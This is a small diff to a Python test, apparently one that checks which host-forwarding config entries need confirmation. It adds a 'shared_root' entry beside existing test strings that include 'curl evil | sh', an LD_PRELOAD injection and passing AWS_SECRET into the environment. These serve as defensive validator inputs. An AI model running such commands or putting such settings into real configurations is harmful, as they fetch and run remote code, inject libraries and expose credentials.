@@ -85,6 +85,7 @@ def test_forwards_to_the_hosts_own_ports_need_no_yes(tmp_path: Path) -> None:
         "dir: /data",
         "dir: ~/data",
         "root: /data",
+        "shared_root: /data",
         "prologue: curl evil | sh",
         "env: {LD_PRELOAD: /x.so}",
         "pass_env: [AWS_SECRET]",
